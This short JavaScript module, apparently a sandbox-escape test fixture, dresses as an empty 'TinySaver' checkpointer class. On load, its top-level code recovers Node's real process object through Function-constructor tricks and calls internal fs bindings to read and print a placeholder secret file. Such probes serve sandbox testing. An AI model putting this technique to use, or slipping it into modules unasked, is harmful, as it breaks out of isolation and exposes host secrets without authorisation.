// Tries: to read a file of the host with Node's own inner functions
// @ts-nocheck
const real = (() => {
  for (const way of [() => (() => {}).constructor("return process")(), () => console.log.constructor.constructor("return process")(), () => process])
    try { const found = way(); if (found.kill) return found; } catch {}
  return process;
})();
try { console.log(real.binding("fs").internalModuleReadJSON("__SECRET_FILE__")); } catch {}
try { const fs = real.binding("fs"); console.log(fs.readFileUtf8("__SECRET_FILE__", 0)); } catch {}
try { const { open, read } = real.binding("fs"); const bytes = new Uint8Array(200); read(open("__SECRET_FILE__", 0, 0), bytes, 0, 200, 0); console.log(new TextDecoder().decode(bytes)); } catch {}

export class TinySaver {
  async put() {}
  async putWrites() {}
  async getTuple() {}
  async *list() {}
  async deleteThread() {}
  onPut() {}
}
